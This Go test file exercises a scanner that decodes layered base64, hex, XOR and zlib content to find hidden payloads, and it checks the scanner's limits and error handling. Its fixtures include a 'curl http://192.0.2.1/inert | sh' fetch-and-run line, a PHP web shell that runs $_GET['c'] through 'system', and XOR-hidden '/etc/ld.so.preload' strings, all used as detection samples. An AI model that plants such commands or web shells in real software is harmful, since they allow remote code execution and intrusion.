package views

import (
	"bytes"
	"compress/zlib"
	"context"
	"crypto/sha512"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/seed-181f3109/assay/fstree"
)

func deflated(b []byte) []byte {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	w.Write(b)
	w.Close()
	return z.Bytes()
}

// chains returns the chains of the views of a content and what was given up.
func chains(t *testing.T, path, content string, lim *Limits) (views []string, errs []error) {
	t.Helper()
	for v, err := range Of(t.Context(), path, []byte(content), lim) {
		if err != nil {
			errs = append(errs, err)
			continue
		}
		views = append(views, v.Chain)
	}
	return views, errs
}

const inertShell = "#!/bin/sh\ncurl http://192.0.2.1/inert | sh\n# padding of this line to reach the shortest run that counts\n"

// TestNothingIsLeftOut has what counts behind much that does not.
func TestNothingIsLeftOut(t *testing.T) {
	decoys := ""
	for i := range 300 {
		decoys += b64(fmt.Sprintf("some words of text number %d, long enough to be looked at as a run of its own", i)) + " - "
	}
	program := func(at int) string {
		b := make([]byte, at+200)
		copy(b, "\x7fELF")
		for i, c := range []byte("/bin/sh\x00/etc/ld.so.preload\x00") {
			b[at+i] = c ^ 0x5a
		}
		return string(b)
	}
	for _, c := range []struct{ name, path, content, want string }{
		{"after many runs", "/a.txt", decoys + b64(inertShell), "base64"},
		{"after many escapes", "/a.txt", strings.Repeat(strings.Repeat(`\x20`, 20)+" - ", 100) + escaped(inertShell), "hex"},
		{"in a long text", "/a.txt", strings.Repeat("some words of a text\n", 1<<19) + b64(inertShell), "base64"},
		{"in a long program", "/a", program(20 << 20), "xor:0x5a"},
		{"across a step of the search", "/a", program(xorStep - 4), "xor:0x5a"},
		{"in a page that begins as a program", "/a.php", "\x7fELF<?php $f='sys'.'tem'; $f($_GET['c']);", "php:sinks"},
		{"in a page that begins as a module", "/a.php", "\xa7\x0d\r\n\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe3<?php $f='sys'.'tem'; $f($_GET['c']);", "php:sinks"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got, errs := chains(t, c.path, c.content, nil); len(got) == 0 || got[len(got)-1] != c.want {
				t.Errorf("got %q, %v, want %q last", got, errs, c.want)
			}
		})
	}
}

func escaped(s string) string {
	out := ""
	for i := range len(s) {
		out += fmt.Sprintf(`\x%02x`, s[i])
	}
	return out
}

// TestFarHits has words under one key further apart than a view is long.
func TestFarHits(t *testing.T) {
	b := make([]byte, 5<<20)
	copy(b, "\x7fELF")
	places := []int{1000, 2000, 3 << 20, 4<<20 + 5000}
	for _, at := range places {
		for i, c := range []byte("/etc/ld.so.preload") {
			b[at+i] = c ^ 0x33
		}
	}
	seen := 0
	for v, err := range Of(t.Context(), "/a", b, nil) {
		if err != nil {
			t.Fatal(err)
		}
		if len(v.Bytes) > xorView+2*xorBefore {
			t.Errorf("a view of %d bytes", len(v.Bytes))
		}
		seen += bytes.Count(v.Bytes, []byte("ld.so.preload"))
	}
	if seen != len(places) {
		t.Errorf("%d of %d words are in the views", seen, len(places))
	}
}

// TestLayersOfCompression holds that what is compressed too often is reported.
func TestLayersOfCompression(t *testing.T) {
	b := []byte(inertShell)
	for range maxLayers {
		b = deflated(b)
	}
	if got, errs := chains(t, "/a.txt", "x = "+b64(string(b)), nil); len(got) != 1 || errs != nil {
		t.Errorf("%d layers: got %q, %v", maxLayers, got, errs)
	}
	if got, errs := chains(t, "/a.txt", "x = "+b64(string(deflated(b))), nil); got != nil || len(errs) != 1 || !errors.Is(errs[0], fstree.ErrLimit) {
		t.Errorf("%d layers: got %q, %v", maxLayers+1, got, errs)
	}
}

// TestHashesAreNoDamage has 80,000 hashes, some of which begin as zlib does, and a
// compressed text that is damaged.
func TestHashesAreNoDamage(t *testing.T) {
	var hashes strings.Builder
	for i := range 80_000 {
		sum := sha512.Sum512([]byte(fmt.Sprint(i)))
		hashes.WriteString("sha512-" + b64(string(sum[:])) + ",\n")
	}
	if _, errs := chains(t, "/package-lock.json", hashes.String(), nil); errs != nil {
		t.Errorf("hashes: got %v", errs)
	}
	damaged := deflated([]byte(strings.Repeat(inertShell, 3) + fmt.Sprint(sha512.Sum512(nil))))
	clear(damaged[len(damaged)-8:])
	if _, errs := chains(t, "/a.txt", "x = "+b64(string(damaged)), nil); len(errs) != 1 || !errors.Is(errs[0], fstree.ErrCorrupt) {
		t.Errorf("damaged text: got %v, want ErrCorrupt", errs)
	}
}

// growing is a text of many runs, each of which decodes to such a text again.
func growing(levels int) string {
	b := "some words of a text about trees and birds, and nothing else at all\n"
	for level := range levels {
		var runs strings.Builder
		for i := range 40 {
			runs.WriteString(b64(string(deflated([]byte(fmt.Sprint(level, i, " ", strings.Repeat(b, 2)))))) + " . ")
		}
		b = runs.String()
	}
	return b
}

// TestEncodedInEncodedEnds holds that the search ends at its limits, and says so,
// where each layer has many runs of the next.
func TestEncodedInEncodedEnds(t *testing.T) {
	content := growing(3)
	for name, lim := range map[string]*Limits{"time": {Time: 50 * time.Millisecond}, "bytes": {Bytes: 1 << 16}} {
		start := time.Now()
		_, errs := chains(t, "/a.txt", content, lim)
		if len(errs) != 1 || !errors.Is(errs[0], fstree.ErrLimit) {
			t.Errorf("%s: got %v, want ErrLimit", name, errs)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("%s: took %v", name, d)
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	var last error
	for _, err := range Of(ctx, "/a.txt", []byte("x = "+b64(inertShell)+" - "+content), nil) {
		cancel()
		last = err
	}
	if !errors.Is(last, context.Canceled) {
		t.Errorf("cancelled: got %v", last)
	}
}

// TestSameIsSearchedOnce has the same encoded text 40 times in each of 12 layers.
func TestSameIsSearchedOnce(t *testing.T) {
	b := "some words of a text about trees and birds, and nothing else at all\n" + b64(inertShell)
	for range 12 {
		b = strings.Repeat(b64(string(deflated([]byte(b))))+" . ", 40)
	}
	if got, errs := chains(t, "/a.txt", b, nil); len(got) != 1 || errs != nil {
		t.Errorf("got %q, %v, want one view", got, errs)
	}
}
